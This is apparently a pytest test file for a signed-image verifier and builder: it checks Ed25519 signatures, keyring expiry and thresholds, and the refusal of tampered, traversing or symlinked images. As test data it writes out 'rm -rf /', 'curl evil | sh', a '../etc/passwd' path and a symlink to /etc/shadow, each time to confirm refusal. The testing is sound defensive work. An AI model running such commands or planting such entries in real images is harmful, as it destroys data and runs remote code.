"""The image verifier (:mod:`agent.image_verify`, standard library only) on small images
signed with real keys, and the builder's refusals of bad input."""

from __future__ import annotations

import hashlib
import json
import os
import tarfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.image_verify import (
    IMAGE_PAYLOAD_TYPE,
    ImageVerificationError,
    ed25519_verify,
    main,
    verify_image,
)
from server.image import ImageBuildError, build_image
from server.keys import init_keys, issue_keyring
from shared.signing import SigningKey, sign_envelope

NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
KEY = SigningKey.from_seed(bytes(range(32)))
TOKEN = "efp.0123456789ab." + "A" * 43


@given(message=st.binary(max_size=300), flip=st.integers(min_value=0, max_value=511))
@settings(max_examples=40, deadline=None)
def test_pure_ed25519_agrees_with_cryptography(message: bytes, flip: int) -> None:
    signature = KEY.sign(message)
    assert ed25519_verify(KEY.public.raw, message, signature)
    altered = bytearray(signature)
    altered[flip // 8] ^= 1 << (flip % 8)
    assert not ed25519_verify(KEY.public.raw, message, bytes(altered))
    assert not ed25519_verify(KEY.public.raw, message + b"!", signature)
    other = SigningKey.from_seed(hashlib.sha256(message).digest()).public.raw
    assert not ed25519_verify(other, message, signature)


def test_a_malleated_signature_is_refused() -> None:
    q = 2**252 + 27742317777372353535851937790883648493
    signature = KEY.sign(b"m")
    s = int.from_bytes(signature[32:], "little") + q  # same point, non-canonical scalar
    assert not ed25519_verify(KEY.public.raw, b"m", signature[:32] + s.to_bytes(32, "little"))
    assert not ed25519_verify(KEY.public.raw[:31], b"m", signature)


def make_image(
    folder: Path,
    *,
    root: SigningKey,
    online: list[SigningKey],
    threshold: int = 1,
    signers: list[SigningKey] | None = None,
    keyring_root: SigningKey | None = None,
    lifetime: timedelta = timedelta(days=30),
    files: dict[str, bytes] | None = None,
    extra_entries: list[dict[str, object]] = (),  # type: ignore[assignment]
) -> Path:
    folder.mkdir(parents=True)
    contents = files or {"install.sh": b"#!/bin/sh\n", "wheelhouse/a-1.0-py3-none-any.whl": b"x"}
    for name, data in contents.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    (folder / "root.pub").write_text(root.public.to_base64() + "\n")
    _, keyring = issue_keyring(
        keyring_root or root,
        [k.public for k in online],
        version=1,
        now=NOW - timedelta(days=1),
        lifetime=lifetime,
        threshold=threshold,
    )
    (folder / "keyring.json").write_bytes(keyring.to_bytes())
    entries = [
        {
            "path": p.relative_to(folder).as_posix(),
            "sha256": hashlib.sha256(p.read_bytes()).hexdigest(),
            "size": p.stat().st_size,
        }
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    ] + list(extra_entries)
    manifest = json.dumps({"schema": "ef.image-manifest", "profile": "p", "files": entries})
    (folder / "MANIFEST.json").write_text(manifest)
    envelope = sign_envelope(manifest.encode(), IMAGE_PAYLOAD_TYPE, signers or online[:1])
    (folder / "MANIFEST.sig").write_bytes(envelope.to_bytes())
    return folder


def refused(location: Path, **kwargs: object) -> str:
    with pytest.raises(ImageVerificationError) as caught:
        verify_image(location, now=NOW, **kwargs)  # type: ignore[arg-type]
    return caught.value.reason


def test_a_good_image_verifies_as_a_folder_and_as_an_archive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root, online = SigningKey.generate(), SigningKey.generate()
    folder = make_image(tmp_path / "img", root=root, online=[online])
    verified = verify_image(folder, root_key=root.public.raw, now=NOW)
    assert verified.root_given and verified.root_keyid == root.keyid
    assert {f["path"] for f in verified.files} >= {"install.sh", "root.pub", "keyring.json"}
    with tarfile.open(tmp_path / "img.tar.gz", "w:gz") as tar:
        tar.add(folder, arcname="edgefleet-p")
    assert verify_image(tmp_path / "img.tar.gz", now=NOW).manifest["profile"] == "p"
    # The command line (the real clock: the keyring's expiry is not what this checks).
    assert main([str(tmp_path / "img.tar.gz"), "--json", "--allow-expired-keyring"]) == 0
    assert json.loads(capsys.readouterr().out)["verified"] is True
    (folder / "install.sh").write_bytes(b"#!/bin/sh\nrm -rf /\n")
    assert main([str(folder), "--allow-expired-keyring"]) == 1
    assert "REFUSED (hash_mismatch): install.sh differs" in capsys.readouterr().err


def test_the_keyring_must_be_current_unless_allowed(tmp_path: Path) -> None:
    root, online = SigningKey.generate(), SigningKey.generate()
    folder = make_image(tmp_path / "img", root=root, online=[online], lifetime=timedelta(hours=1))
    assert refused(folder) == "expired"
    assert verify_image(folder, now=NOW, allow_expired_keyring=True).manifest["profile"] == "p"


def test_the_keyring_threshold_counts(tmp_path: Path) -> None:
    root = SigningKey.generate()
    online = [SigningKey.generate(), SigningKey.generate()]
    one = make_image(tmp_path / "one", root=root, online=online, threshold=2)
    assert refused(one) == "threshold"
    both = make_image(tmp_path / "two", root=root, online=online, threshold=2, signers=online)
    assert verify_image(both, now=NOW).files


def test_a_keyring_from_another_root_is_refused(tmp_path: Path) -> None:
    root, online = SigningKey.generate(), SigningKey.generate()
    folder = make_image(
        tmp_path / "img", root=root, online=[online], keyring_root=SigningKey.generate()
    )
    assert refused(folder) == "unknown_key"
    assert refused(folder, root_key=SigningKey.generate().public.raw) == "wrong_root"


def test_unsafe_paths_links_and_missing_files_are_refused(tmp_path: Path) -> None:
    root, online = SigningKey.generate(), SigningKey.generate()
    outside = {"path": "../etc/passwd", "sha256": "0" * 64, "size": 0}
    traversal = make_image(tmp_path / "a", root=root, online=[online], extra_entries=[outside])
    assert refused(traversal) == "malformed"

    linked = make_image(tmp_path / "b", root=root, online=[online])
    os.symlink("/etc/hostname", linked / "wheelhouse" / "link.whl")
    assert refused(linked) == "unlisted_file"

    missing = make_image(tmp_path / "c", root=root, online=[online])
    (missing / "install.sh").unlink()
    assert refused(missing) == "missing_file"

    grown = make_image(tmp_path / "d", root=root, online=[online])
    with (grown / "install.sh").open("ab") as f:
        f.write(b"curl evil | sh\n")
    assert refused(grown) == "hash_mismatch"


def test_an_archive_with_a_link_or_two_folders_is_refused(tmp_path: Path) -> None:
    root, online = SigningKey.generate(), SigningKey.generate()
    folder = make_image(tmp_path / "img", root=root, online=[online])
    with tarfile.open(tmp_path / "two.tar.gz", "w:gz") as tar:
        tar.add(folder, arcname="a")
        tar.add(folder / "install.sh", arcname="b/install.sh")
    assert refused(tmp_path / "two.tar.gz") == "malformed"
    with tarfile.open(tmp_path / "link.tar.gz", "w:gz") as tar:
        tar.add(folder, arcname="a")
        link = tarfile.TarInfo("a/wheelhouse/x.whl")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
        tar.addfile(link)
    assert refused(tmp_path / "link.tar.gz") == "unlisted_file"


# ----------------------------------------------------------------------------- the builder


@pytest.fixture
def keys_dir(tmp_path: Path) -> Path:
    init_keys(tmp_path / "keys", now=datetime.now(UTC), lifetime=timedelta(days=30))
    return tmp_path / "keys"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"token": "not-a-token"}, "not a provisioning token"),
        ({"server_url": "ftp://fleet"}, "--server must look like"),
        ({"profile_name": "toaster"}, "no profile 'toaster'"),
        ({"keys_dir": Path("/nonexistent/keys")}, "edgefleet keys init"),
        ({"wheelhouse_from": Path("/nonexistent/wheels")}, "is not a folder"),
    ],
)
def test_the_builder_names_bad_input(
    keys_dir: Path, tmp_path: Path, change: dict[str, object], message: str
) -> None:
    arguments: dict[str, object] = {
        "profile_name": "edge-x86_64-litert",
        "server_url": "https://fleet.example",
        "token": TOKEN,
        "out": tmp_path / "image.tar.gz",
        "keys_dir": keys_dir,
    }
    with pytest.raises(ImageBuildError, match=message):
        build_image(**(arguments | change))  # type: ignore[arg-type]
    assert not (tmp_path / "image.tar.gz").exists()


def test_an_offline_build_says_what_the_wheelhouse_lacks(keys_dir: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(ImageBuildError) as failed:
        build_image(
            profile_name="edge-x86_64-litert",
            server_url="https://fleet.example",
            token=TOKEN,
            out=tmp_path / "image.tar.gz",
            keys_dir=keys_dir,
            wheelhouse_from=tmp_path / "empty",
        )
    assert "No matching distribution" in str(failed.value), failed.value
    assert str(tmp_path / "empty") in str(failed.value)
    assert not (tmp_path / "image.tar.gz").exists()
